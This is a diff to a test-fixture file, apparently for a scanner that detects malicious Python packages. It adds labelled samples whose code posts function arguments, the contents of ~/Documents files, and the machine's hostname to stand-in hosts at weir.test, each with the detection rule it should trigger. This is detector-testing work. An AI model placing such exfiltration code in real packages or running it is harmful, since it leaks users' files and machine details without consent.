@@ -10,6 +10,27 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: what a function is given, to a free host',
+      files: wheel(
+        'import requests\ndef connect(phrase):\n    requests.get(f"https://own.free.weir.test/api/{phrase}")\n',
+      ),
+      expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'medium' }],
+    },
+    {
+      name: 'Python: the content of files that a folder lists',
+      files: wheel(
+        'import os, requests\nfor name in os.listdir(os.path.expanduser("~/Documents")):\n    requests.post("https://a.weir.test/x", data=open(name).read())\n',
+      ),
+      expected: [{ rule: 'files', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: the name of the machine to a free host, in a function',
+      files: wheel(
+        'import platform, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json={"on": platform.node()})\n',
+      ),
+      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
       name: 'Python: the environment to a free host, in a function',
       files: wheel(
         'import os, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json=dict(os.environ))\n',
@@ -178,6 +199,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: what a function is given, to the address of a service',
+      wheel(
+        'import requests\ndef find(text):\n    return requests.get(f"https://api.weir.test/find/{text}").json()\n',
+      ),
+    ),
     quiet(
       'Python: the own address of the machine',
       wheel('import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n'),
